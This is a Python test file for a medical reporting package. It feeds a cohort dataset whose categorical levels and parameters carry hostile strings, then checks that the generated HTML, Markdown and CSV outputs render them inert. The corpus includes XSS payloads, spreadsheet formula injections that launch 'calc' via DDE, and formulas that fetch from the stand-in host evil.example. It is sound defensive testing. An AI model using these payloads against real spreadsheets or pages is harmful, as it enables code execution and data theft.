"""Hostile strings from data and parameters never come out live: no script, handler or javascript: URL in any report page,
and no spreadsheet formula in any table medai publishes (issue 31). The corpus is pushed through the reports that read a user's
table (cohort overview, treatment planning) as group levels, arm names, covariate levels and parameter values."""
import glob, json, re
from pathlib import Path
import numpy as np, pandas as pd, pytest
from medai.report import run_report
from medai.report.render import live_markup
from medai.core import FORMULA_STARTS

HTML = ['<script>alert({n})</script>', '<img src=x onerror=alert({n})>', '<svg onload=alert({n})>', '<a href="javascript:alert({n})">x{n}</a>',
        '"><script>alert({n})</script>', "'><img src=x onerror=alert({n})>", '<iframe src="javascript:alert({n})"></iframe>', '<body onload=alert({n})>',
        '<details open ontoggle=alert({n})>', '<style>@import "javascript:alert({n})"</style>', '<math><style><img src=x onerror=alert({n})>',
        '<object data="javascript:alert({n})">', '<input autofocus onfocus=alert({n})>', '[x{n}](javascript:alert({n}))', '<b onmouseover=alert({n})>b{n}</b>']
FORMULAS = ['=cmd|\' /C calc\'!A{n}', '+{n}+cmd|\' /C calc\'!A0', '-{n}+cmd|\' /C calc\'!A0', '@SUM({n},1)', '=HYPERLINK("http://evil.example/{n}","x")',
            '\t=1+{n}', '=1+{n}', '+A{n}', '@A{n}', '=IMPORTXML("http://evil.example/{n}","//a")']
CORPUS = [s.format(n=k) for k, s in enumerate(HTML*2 + FORMULAS*3)][:60]   # 60 distinct strings (the index makes each unique)

def test_the_corpus_is_large_enough(): assert len(set(CORPUS)) >= 50

def published_problems(run:Path)->list[str]:
    "Live markup carrying a payload in any page or Markdown file of a run, and formula cells in any of its CSV tables"
    out = []
    for page in run.rglob("*.html"):
        out += [f"{page.name}: {m[:120]}" for m in live_markup(page.read_text()) if "alert(" in m or "evil" in m]
    for md in run.rglob("*.md"):   # a tag or a javascript: link that a Markdown renderer would make live
        out += [f"{md.name}: {line[:120]}" for line in md.read_text().splitlines()
                if re.search(r"<[A-Za-z/!?]|(?<!\\)\]\(javascript:", line) and ("alert(" in line or "evil" in line)]
    for table in run.rglob("*.csv"):
        t = pd.read_csv(table, dtype=str, keep_default_na=False, header=None)
        out += [f"{table.name}: {v!r}" for v in t.to_numpy().ravel() if v.startswith(FORMULA_STARTS) and not _number(v)]
    return out

def _number(v:str)->bool:
    try: float(v); return True
    except ValueError: return False

def hostile_cohort(path:Path, n:int=240, seed:int=0)->Path:
    "A cohort whose categorical columns carry the corpus as levels, with a survival outcome and a treatment column"
    r = np.random.default_rng(seed)
    half = len(CORPUS)//2
    df = pd.DataFrame({"age": r.normal(60, 8, n).round(), "site": r.choice(CORPUS[:half], n), "stage": r.choice(CORPUS[half:], n),
                       "arm": r.choice([CORPUS[0], CORPUS[31]], n), "time": r.exponential(24, n).round(2) + 0.1, "event": r.integers(0, 2, n)})
    df.to_csv(path, index=False)
    return path

def test_no_hostile_string_is_live_in_the_cohort_report(tmp_path, reports_tmp):
    csv = hostile_cohort(tmp_path/"hostile.csv")
    run = run_report("cohort_overview", {"dataset": str(csv), "group": "arm", "time": "time", "event": "event", "max_levels": 40}, progress=False)
    html = (run/"report.html").read_text()
    assert "&lt;script&gt;alert(0)&lt;/script&gt;" in html   # the arm named by a script tag is shown, as text
    assert published_problems(run) == []

def test_no_hostile_string_is_live_in_the_treatment_report(tmp_path, reports_tmp):
    csv = hostile_cohort(tmp_path/"hostile.csv", n=100, seed=1)
    run = run_report("treatment_planning", {"dataset": str(csv), "treatment": "arm", "outcome": "age", "covariates": ["stage"], "method": "t_learner",
                                            "n_boot": 5}, progress=False)   # a continuous outcome: the quickest path through every section
    assert published_problems(run) == []
    recs = pd.read_csv(run/"tables"/"example_recommendations.csv", dtype=str)
    assert recs.stage.str.startswith("'").all()   # every level a formula in the data, every one inert in the table

def test_a_hostile_parameter_is_not_live_in_the_report_or_the_index(tmp_path, reports_tmp):
    from conftest import make_notebook
    from medai.report import build_index
    nb = make_notebook(tmp_path/"study.ipynb", "labels: list[str] = []  # labels", "from IPython.display import Markdown, display\nfrom medai.report import log_metrics\n"
                       "for label in labels: display(Markdown(f'**Label:** {label}'))\nlog_metrics(score=0.5)")
    run = run_report(nb, {"labels": CORPUS}, run_id="r", progress=False)
    page = build_index().read_text()
    assert [m for m in live_markup(page) if "alert(" in m] == [] and published_problems(run) == []
    assert "&lt;script&gt;alert(0)&lt;/script&gt;" in (run/"report.html").read_text()   # shown, as text
